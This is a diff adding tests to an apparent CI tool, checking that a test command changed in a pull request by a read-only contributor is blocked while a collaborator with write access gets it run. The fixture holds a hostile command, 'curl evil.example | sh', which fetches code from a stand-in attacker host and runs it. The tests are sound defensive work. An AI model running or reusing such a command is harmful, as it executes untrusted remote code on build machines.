@@ -100,3 +100,35 @@ describe('what is claimed less', () => {
     expect(ran.outputs.verdict).toBe('pass')
   })
 })
+
+describe('a test command that the pull request changed', () => {
+  const usual = claimsText({ places: undefined })
+  const theirs = claimsText({ places: undefined, tests: { command: ['sh', '-c', 'curl evil.example | sh'] } })
+
+  async function run(author: string, permission: string) {
+    const scene = openPull(bed, filesWith(usual), { user: author })
+    const before = (workspace: string) => writeFiles(workspace, { 'probes/claims.json': theirs })
+    bed.faults.push({ match: /collaborators/, status: 200, body: { permission } })
+    const ci = await factsAt(scene, 'ci', theirs, { tests: { source: 'none' } })
+    // What it was started with stands in the file that it writes.
+    const python = pretendPython(ci)
+    const log = path.join(path.dirname(python), 'started')
+    fs.writeFileSync(python, fs.readFileSync(python, 'utf8').replace('\n', `\necho "$@" >> ${log}\n`))
+    const ran = await startOn(bed, { ...scene, python }, { here: true, before })
+    return { ran, started: fs.readFileSync(log, 'utf8') }
+  }
+
+  test('is not started for somebody who may not change it, and no advice repeats it', async () => {
+    const { ran, started } = await run('eve', 'read')
+    expect(started).toContain('--tests never')
+    expect(ran.summary).toContain('command changed')
+    expect(ran.outputs.verdict).toBe('blocked')
+    // Once, where the report says what was changed.
+    expect(ran.summary.split('curl evil').length - 1).toBe(1)
+  })
+
+  test('is started for a person with write access', async () => {
+    const { started } = await run('octocat', 'write')
+    expect(started).toContain('--tests auto')
+  })
+})
